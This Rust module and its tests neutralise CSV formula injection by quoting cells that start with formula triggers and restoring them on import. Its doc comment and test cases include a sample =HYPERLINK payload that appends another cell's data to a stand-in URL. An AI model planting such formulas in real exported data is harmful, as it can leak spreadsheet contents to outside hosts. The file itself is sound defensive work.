//! Formula injection in CSV files: a spreadsheet program opening a CSV file reads a cell
//! starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a
//! resident's name typed on a tablet as `=HYPERLINK("http://…"&C2,…)` would become a live
//! link on the office's computer. An export puts a single quote before such a cell (the
//! OWASP advice: spreadsheets show the text, not a formula) and an import takes it off, so
//! a file exported and imported again keeps every value.
//!
//! A value starting with a quote gets one more on export, so that the import, which takes
//! one quote off only where the export added one, gives it back unchanged. XLSX cells are
//! written as strings and need none of this.

use std::borrow::Cow;

/// What an export puts before a cell a spreadsheet would read as a formula.
pub const GUARD: char = '\'';

/// The first characters that make a spreadsheet read a cell as a formula.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a value starting with `c` gets the guard on export.
fn guarded(c: char) -> bool {
    TRIGGERS.contains(&c) || c == GUARD
}

/// A text cell as a CSV export writes it: with [`GUARD`] before it when it starts with a
/// trigger or a quote.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some(c) if guarded(c) => Cow::Owned(format!("{GUARD}{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// A CSV cell as imported: the guard an export added is taken off (a quote followed by a
/// trigger or another quote); any other value is as written.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix(GUARD) {
        Some(rest) if rest.chars().next().is_some_and(guarded) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::{neutralise, restore};

    #[test]
    fn formulas_are_guarded_and_every_value_comes_back() {
        let cases = [
            ("=HYPERLINK(\"http://x\"&C2,\"a\")", "'=HYPERLINK(\"http://x\"&C2,\"a\")"),
            ("+86 138", "'+86 138"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("'=1", "''=1"),
            ("'quoted", "''quoted"),
            ("张三", "张三"),
            ("", ""),
            ("a=b", "a=b"),
        ];
        for (value, written) in cases {
            assert_eq!(neutralise(value), written);
            assert_eq!(restore(&neutralise(value)), value, "{value:?}");
        }
        // A hand-written quote before ordinary text is kept.
        assert_eq!(restore("'abc"), "'abc");
    }
}
